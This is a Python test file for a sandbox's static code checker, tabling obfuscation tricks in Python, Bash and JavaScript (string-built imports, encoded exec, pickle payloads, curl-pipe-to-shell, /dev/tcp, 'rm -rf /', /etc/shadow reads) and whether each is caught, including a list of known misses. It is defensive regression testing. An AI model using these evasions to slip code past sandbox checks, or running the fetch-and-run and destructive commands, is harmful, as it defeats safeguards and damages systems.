"""The evasion table: known tricks against the static checks, and whether each is caught.

The checks are defence in depth and are expected to be evadable; this table records honestly
which tricks they catch (and by which rule) and which they miss, and the test keeps the record
true. A trick moving from "missed" to "caught" is an improvement: update the entry. A trick
moving the other way is a regression. ``docs/checks-evasions.md`` is generated from the table;
regenerate it with ``python tests/unit/test_checks_evasions.py``.

Every entry is checked under one strict profile: any import allowed (so a catch never comes
from the import allowlist alone) and no network.
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

import pytest

from sandcell.policy.checks import RULES, Finding, check

DOC = Path(__file__).resolve().parents[2] / "docs" / "checks-evasions.md"


@dataclass(frozen=True)
class Evasion:
    id: str
    language: Literal["python", "bash", "javascript", "typescript"]
    code: str
    expected: Literal["caught", "missed"]
    rule: str = ""
    """The rule that catches it (it may not be the only finding); empty when missed."""
    note: str = ""


TABLE: tuple[Evasion, ...] = (
    # -- Python: string-built imports ------------------------------------------------------
    Evasion("py-concat-import", "python", '__import__("o" + "s").system("id")',
            "caught", "py.process", "`+` of literals is folded; the import is also flagged"),
    Evasion("py-join-import", "python",
            '__import__("".join(["sub", "pro", "cess"])).run(["id"])',
            "caught", "py.process", '`"".join` of literals is folded'),
    Evasion("py-chr-import", "python", "__import__(chr(111) + chr(115)).system('id')",
            "caught", "py.process", "`chr(int)` is folded"),
    Evasion("py-reversed-import", "python", '__import__("so"[::-1]).system("id")',
            "caught", "py.process", "constant slices are folded"),
    Evasion("py-importlib-computed", "python",
            "import importlib\nimportlib.import_module(input()).system('id')",
            "caught", "py.dynamic-code", "a computed module name is itself a finding"),
    Evasion("py-ctypes-built", "python", '__import__("ctyp" + "es").CDLL(None)',
            "caught", "py.native"),
    # -- Python: getattr chains and namespaces ---------------------------------------------
    Evasion("py-getattr-chain", "python",
            'getattr(getattr(__builtins__, "__im" + "port__")("os"), "sys" + "tem")("id")',
            "caught", "py.process", "resolved through both `getattr` calls and `__import__`"),
    Evasion("py-getattr-computed", "python", "import os\ngetattr(os, input())('id')",
            "caught", "py.reflection", "`getattr` with a computed name on a module"),
    Evasion("py-sys-modules", "python", 'import sys\nsys.modules["os"].system("id")',
            "caught", "py.process"),
    Evasion("py-module-dict", "python", 'import os\nos.__dict__["system"]("id")',
            "caught", "py.process", "the module `__dict__` is also a `py.reflection` finding"),
    Evasion("py-vars-module", "python", 'import os\nvars(os)["system"]("id")',
            "caught", "py.process"),
    Evasion("py-attrgetter", "python",
            'import operator, os\noperator.attrgetter("system")(os)("id")',
            "caught", "py.process"),
    Evasion("py-alias-assign", "python", "import os\nrun = os.system\nrun('id')",
            "caught", "py.process"),
    Evasion("py-star-import", "python", "from os import *\nsystem('id')",
            "caught", "py.process"),
    Evasion("py-globals-builtins", "python",
            'globals()["__builtins__"].__dict__["exec"](payload)',
            "caught", "py.dynamic-code", "resolves to `builtins.exec` of a computed string"),
    # -- Python: encoded code and exec ----------------------------------------------------
    Evasion("py-base64-exec", "python",
            'import base64\nexec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))',
            "caught", "py.dynamic-code", "`exec` of anything but a literal is a deny"),
    Evasion("py-rot13-exec", "python",
            "import codecs\nexec(codecs.decode(\"vzcbeg bf; bf.flfgrz('vq')\", \"rot13\"))",
            "caught", "py.dynamic-code"),
    Evasion("py-exec-literal", "python", "exec(\"import os; os.system('id')\")",
            "caught", "py.process", "the literal is parsed and checked in turn"),
    Evasion("py-lambda-exec", "python", "(lambda f: f(payload))(exec)",
            "caught", "py.dynamic-code", "`exec` used as a value"),
    Evasion("py-compile-functiontype", "python",
            'import types\ntypes.FunctionType(compile(src, "<x>", "exec"), {})()',
            "caught", "py.dynamic-code"),
    Evasion("py-breakpoint", "python", "breakpoint()", "caught", "py.dynamic-code",
            "a debugger runs whatever it reads"),
    # -- Python: unicode --------------------------------------------------------------------
    Evasion("py-fullwidth-exec", "python", "ｅｘｅｃ(payload)", "caught", "py.dynamic-code",
            "the parser NFKC-normalises identifiers"),
    Evasion("py-fullwidth-import", "python",
            "import ｓｕｂｐｒｏｃｅｓｓ\nｓｕｂｐｒｏｃｅｓｓ.run(['id'])",
            "caught", "py.process"),
    # -- Python: pickle and interpreter internals ------------------------------------------
    Evasion("py-pickle-payload", "python",
            "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
            "caught", "py.deserialize"),
    Evasion("py-pickle-alias", "python", "from pickle import loads as l\nl(data)",
            "caught", "py.deserialize"),
    Evasion("py-marshal-code", "python",
            "import marshal, types\ntypes.FunctionType(marshal.loads(blob), {})()",
            "caught", "py.deserialize"),
    Evasion("py-subclasses-walk", "python",
            "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen']",
            "caught", "py.reflection"),
    Evasion("py-mro", "python", "type(x).__mro__[-1].__subclasses__()",
            "caught", "py.reflection"),
    Evasion("py-format-globals", "python", '"{0.__globals__}".format(f)',
            "caught", "py.reflection", "internal names are looked for inside strings too"),
    Evasion("py-path-join", "python", 'import os\nopen(os.path.join("/", "etc", "shadow"))',
            "caught", "py.path"),
    # -- Python: shell escapes (`!cmd` in E2B's run_code) ----------------------------------
    Evasion("py-escape-piped", "python", "_sandcell_shell('curl https://example.com/x | sh')",
            "caught", "sh.pipe-to-shell", "a literal escape is checked as the Bash it is"),
    Evasion("py-escape-computed", "python", "_sandcell_shell('cu' + 'rl https://example.com/x')",
            "caught", "py.shell-escape", "only a literal program may be passed"),
    Evasion("py-escape-alias", "python", "run = _sandcell_shell\nrun('nc example.com 80')",
            "caught", "py.shell-escape", "any other use of the name is a deny"),
    Evasion("py-escape-getattr-built", "python",
            "import builtins\ngetattr(builtins, '_sandcell_' + 'shell')('nc example.com 80')",
            "caught", "py.reflection", "a computed getattr on a module; the program is unread"),
    # -- Python: what is missed -------------------------------------------------------------
    Evasion("py-container", "python", 'import os\n[os][0].system("id")', "missed",
            note="values are not followed through containers"),
    Evasion("py-dict-value", "python", 'import os\nd = {"m": os}\nd["m"].system("id")',
            "missed", note="nor through dict values"),
    Evasion("py-function-return", "python",
            'import os\ndef m():\n    return os\nm().system("id")',
            "missed", note="nor through function returns"),
    Evasion("py-write-then-import", "python",
            "open('m.py', 'w').write('import os\\nos.system(\"id\")')\nimport m",
            "missed", note="code written at run time is never seen (with an import allowlist, "
            "`import m` would be a py.import finding)"),
    Evasion("py-path-from-bytes", "python",
            "open(bytes([47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119]).decode())",
            "missed", note="paths built from non-string data are not folded"),
    # -- Shell: disguised command names ----------------------------------------------------
    Evasion("sh-backslash", "bash", r"c\url -s https://example.com/x", "caught", "sh.network"),
    Evasion("sh-quote-split", "bash", '"cu""rl" https://example.com/x', "caught", "sh.network"),
    Evasion("sh-echo-substitution", "bash", "$(echo curl) https://example.com/x",
            "caught", "sh.network", "`$(echo ...)` of literals is folded"),
    Evasion("sh-printf-escapes", "bash", r"$(printf 'cu\x72l') https://example.com/x",
            "caught", "sh.network"),
    Evasion("sh-ansi-c", "bash", r"$'\x63\x75\x72\x6c' https://example.com/x",
            "caught", "sh.network"),
    Evasion("sh-ifs", "bash", "curl${IFS}https://example.com/x", "caught", "sh.network",
            "`$IFS` is taken as the space it is by default"),
    Evasion("sh-variables", "bash", "a=cu; b=rl; $a$b https://example.com/x",
            "caught", "sh.network", "variables assigned one constant are expanded"),
    Evasion("sh-env-command", "bash", '"$TOOL" https://example.com/x', "caught", "sh.eval",
            "a command name that cannot be known is itself a finding"),
    Evasion("sh-glob-name", "bash", "/usr/bin/cu?l https://example.com/x",
            "caught", "sh.eval"),
    Evasion("sh-wrappers", "bash", "env -i timeout 5 nohup nc example.com 80",
            "caught", "sh.network", "wrappers are looked through"),
    Evasion("sh-find-exec", "bash", r"find . -name '*.csv' -exec curl -T {} https://x.example \;",
            "caught", "sh.network"),
    Evasion("sh-dev-tcp", "bash", "exec 3<>/dev/tcp/example.com/80", "caught", "sh.network"),
    # -- Shell: eval, decoded and downloaded code -------------------------------------------
    Evasion("sh-eval-decoded", "bash",
            'eval "$(echo Y3VybCBodHRwczovL2V4YW1wbGUuY29tL3g= | base64 -d)"',
            "caught", "sh.eval", "`eval` of decoded text is a deny"),
    Evasion("sh-base64-pipe", "bash", "echo Y3VybCBodHRwczovL2V4YW1wbGUuY29tL3g= | base64 -d | sh",
            "caught", "sh.eval"),
    Evasion("sh-curl-pipe-sh", "bash", "curl -fsSL https://example.com/i.sh | sudo bash",
            "caught", "sh.pipe-to-shell"),
    Evasion("sh-process-substitution", "bash", "bash <(wget -qO- https://example.com/i.sh)",
            "caught", "sh.pipe-to-shell"),
    Evasion("sh-bash-c", "bash", 'bash -c "wget -q https://example.com/x"',
            "caught", "sh.network", "`-c` strings are parsed and checked in turn"),
    Evasion("sh-nested-c", "bash", "sh -c \"bash -c 'rm -rf /'\"", "caught", "sh.destroy"),
    Evasion("sh-heredoc-to-sh", "bash", "cat <<'EOF' | sh\ncurl https://example.com/x\nEOF",
            "caught", "sh.network"),
    Evasion("sh-python-c", "bash",
            "python3 -c \"import socket; socket.create_connection(('example.com', 80))\"",
            "caught", "py.network", "Python given to `python -c` goes through the Python checks"),
    Evasion("sh-rm-spelled", "bash", "rm -r -f -- //", "caught", "sh.destroy"),
    # -- Shell: what is missed --------------------------------------------------------------
    Evasion("sh-awk-system", "bash", "awk 'BEGIN { system(\"curl https://example.com/x\") }'",
            "missed", note="code inside other interpreters (awk, perl, ruby) is not parsed"),
    Evasion("sh-perl-socket", "bash",
            "perl -MIO::Socket -e 'IO::Socket::INET->new(\"example.com:80\")'",
            "missed"),
    Evasion("sh-script-written", "bash", "echo 'curl https://example.com/x' > run.sh\nsh run.sh",
            "missed", note="a script written at run time is never seen"),
    # -- JavaScript: string-built and aliased loads -----------------------------------------
    Evasion("js-concat-require", "javascript", 'require("child_" + "process").execSync("id")',
            "caught", "js.process", "`+` of literals is folded; the built name is also flagged"),
    Evasion("js-template-require", "javascript",
            'const m = "process";\nrequire(`child_${m}`).execSync("id")',
            "caught", "js.process", "template literals fold when their substitutions do"),
    Evasion("js-join-require", "javascript",
            'require(["child", "process"].join("_")).execSync("id")', "caught", "js.process"),
    Evasion("js-reversed-require", "javascript",
            'require("ssecorp_dlihc".split("").reverse().join(""))', "caught", "js.process"),
    Evasion("js-require-alias", "javascript",
            'const r = require;\nr("child_process").execSync("id")',
            "caught", "js.process", "aliases are followed; `require` as a value is flagged too"),
    Evasion("js-destructured-alias", "javascript",
            'const { execSync: e } = require("node:child_process");\ne("id")',
            "caught", "js.process"),
    Evasion("js-global-require", "javascript", 'globalThis["req" + "uire"]("child_process")',
            "caught", "js.process", "a constant key into the global object is resolved"),
    Evasion("js-require-call", "javascript", 'require.call(null, "child_process")',
            "caught", "js.process", "also `require.apply`, `module.require`, `createRequire`"),
    Evasion("js-main-module", "javascript", 'process.mainModule.require("child_process")',
            "caught", "js.process"),
    Evasion("js-import-computed", "javascript", 'const m = await import("node:" + name);',
            "caught", "js.dynamic-code", "a computed module name is itself a finding"),
    Evasion("js-import-data-url", "javascript",
            'await import("data:text/javascript,process.exit(1)")',
            "caught", "js.dynamic-code", "code from a URL is a deny"),
    Evasion("ts-import-require", "typescript", 'import cp = require("child_process");',
            "caught", "js.process", "TypeScript goes through the same rules"),
    # -- JavaScript: dynamic code and Node's internals ---------------------------------------
    Evasion("js-eval-built", "javascript", 'eval("req" + "uire(\'child_process\')")',
            "caught", "js.process", "a constant string given to eval is checked in turn"),
    Evasion("js-eval-decoded", "javascript",
            'eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpKQ=="))',
            "caught", "js.dynamic-code", "`eval` of anything but a literal is a deny"),
    Evasion("js-indirect-eval", "javascript", "(0, eval)(payload)", "caught", "js.dynamic-code"),
    Evasion("js-constructor-chain", "javascript",
            '({}).constructor.constructor("return process")()', "caught", "js.dynamic-code",
            "the constructor chain reaches Function: a deny"),
    Evasion("js-async-function", "javascript",
            'Object.getPrototypeOf(async () => {}).constructor("return process")()',
            "caught", "js.dynamic-code"),
    Evasion("js-string-timer", "javascript", 'setTimeout("require(\'child_process\')", 0)',
            "caught", "js.process"),
    Evasion("js-binding-built", "javascript", 'process["bind" + "ing"]("spawn_sync")',
            "caught", "js.native"),
    Evasion("js-reflect-binding", "javascript",
            'Reflect.get(process, "bin" + "ding")("spawn_sync")', "caught", "js.native"),
    Evasion("js-destructured-binding", "javascript",
            'const { binding: b } = process;\nb("spawn_sync")', "caught", "js.native"),
    Evasion("js-computed-key", "javascript", 'process[atob("YmluZGluZw==")]("spawn_sync")',
            "caught", "js.reflection", "a computed key into process is a finding"),
    Evasion("js-fetch-alias", "javascript", 'const f = globalThis["fe" + "tch"];\nf("https://x.example")',
            "caught", "js.network"),
    Evasion("js-this-global", "javascript", 'Function("return this")().process.binding("fs")',
            "caught", "js.dynamic-code", "caught only as a constant Function (a warning): the "
            "global object it returns is not followed"),
    # -- JavaScript: what is missed ----------------------------------------------------------
    Evasion("js-container", "javascript", 'const p = [process][0];\np.binding("spawn_sync")',
            "missed", note="values are not followed through containers (Node's permission model "
            "refuses process.binding at run time)"),
    Evasion("js-function-return", "javascript",
            'function g() {\n  return process;\n}\ng().binding("spawn_sync")',
            "missed", note="nor through function returns"),
    Evasion("js-write-then-require", "javascript",
            'fs.writeFileSync("m.js", "require(\'child_process\')");\nrequire("./m.js")',
            "missed", note="code written at run time is never seen"),
    Evasion("js-path-from-bytes", "javascript",
            "fs.readFileSync(Buffer.from([47, 101, 116, 99, 47, 115, 104, 97, 100, 111, 119])"
            ".toString())",
            "missed", note="paths built from non-string data are not folded"),
)  # fmt: skip


def _findings(e: Evasion) -> list[Finding]:
    return check(e.code, e.language, allowed_imports=None, network=False)


def _result(e: Evasion) -> tuple[str, list[str]]:
    weighty = [f.rule_id for f in _findings(e) if f.severity != "info"]
    return ("caught" if weighty else "missed"), sorted(set(weighty))


def test_table_ids_are_unique() -> None:
    assert len({e.id for e in TABLE}) == len(TABLE)


@pytest.mark.parametrize("entry", TABLE, ids=[e.id for e in TABLE])
def test_evasion_result_matches_table(entry: Evasion) -> None:
    result, rules = _result(entry)
    assert result == entry.expected, (entry.code, rules)
    if entry.expected == "caught":
        assert entry.rule in rules, (entry.code, rules)


def test_every_rule_in_the_table_is_a_known_rule() -> None:
    assert {e.rule for e in TABLE if e.rule} <= set(RULES)
    for e in TABLE:
        assert {f.rule_id for f in _findings(e)} <= set(RULES)


def test_table_records_misses_honestly() -> None:
    # The table is a record, not a boast: it must keep listing tricks that get through.
    assert any(e.expected == "missed" for e in TABLE if e.language == "python")
    assert any(e.expected == "missed" for e in TABLE if e.language == "bash")
    assert any(e.expected == "missed" for e in TABLE if e.language == "javascript")


def render() -> str:
    """The markdown page generated from :data:`TABLE`."""
    caught = sum(e.expected == "caught" for e in TABLE)
    lines = [
        "# Static checks against evasions",
        "",
        "<!-- Generated by tests/unit/test_checks_evasions.py; edit the table there. -->",
        "",
        "The static checks (`sandcell.policy.checks`) are defence in depth. They are expected",
        "to be evadable, and the sandbox (namespaces, seccomp, Landlock, cgroups, no network) is",
        "the boundary that holds whatever they miss. This table records which known tricks the",
        "checks catch and which they do not; the test suite asserts every row, so it stays true.",
        "",
        "Each row is checked with any import allowed (a catch never comes from the import",
        "allowlist alone) and no network. *Caught* means at least one `warning` or `deny`",
        "finding, including the rule in *caught by*; *all findings* lists every rule that",
        "fired (`info` findings left out).",
        "",
        "JavaScript and TypeScript are read on a real parse (tree-sitter) and resolved as",
        "Python is: aliases, destructuring, strings built from literals, constant keys into",
        "`globalThis` and `process`, `require.call`, `createRequire` and `import()`. Behind",
        "them Node runs with its permission model (`sandcell.runtimes.node.flags`:",
        "`--permission`), which refuses child processes, worker threads, native addons,",
        "`process.binding`, WASI and the inspector at run time, and writes outside the",
        "workspace, `/tmp` and `/dev/shm`: that wall, and the sandbox around it, hold what",
        "the checks miss below.",
        "",
        f"**{caught} caught, {len(TABLE) - caught} missed, of {len(TABLE)}.**",
        "",
        "| id | language | code | result | caught by | all findings | note |",
        "| --- | --- | --- | --- | --- | --- | --- |",
    ]
    for e in TABLE:
        code = e.code.replace("|", "\\|").replace("\n", "⏎ ")
        rule = f"`{e.rule}`" if e.rule else ""
        found = ", ".join(f"`{r}`" for r in _result(e)[1])
        lines.append(
            f"| {e.id} | {e.language} | `{code}` | {e.expected} | {rule} | {found} | {e.note} |"
        )
    return "\n".join(lines) + "\n"


def test_doc_is_current() -> None:
    assert DOC.read_text(encoding="utf-8") == render(), (
        "docs/checks-evasions.md is stale: run python tests/unit/test_checks_evasions.py"
    )


if __name__ == "__main__":
    DOC.write_text(render(), encoding="utf-8")
    for e in TABLE:
        got, rules = _result(e)
        flag = "" if got == e.expected else "   <-- differs from the table"
        print(f"{e.id:28} {got:7} {','.join(rules)}{flag}", file=sys.stderr)
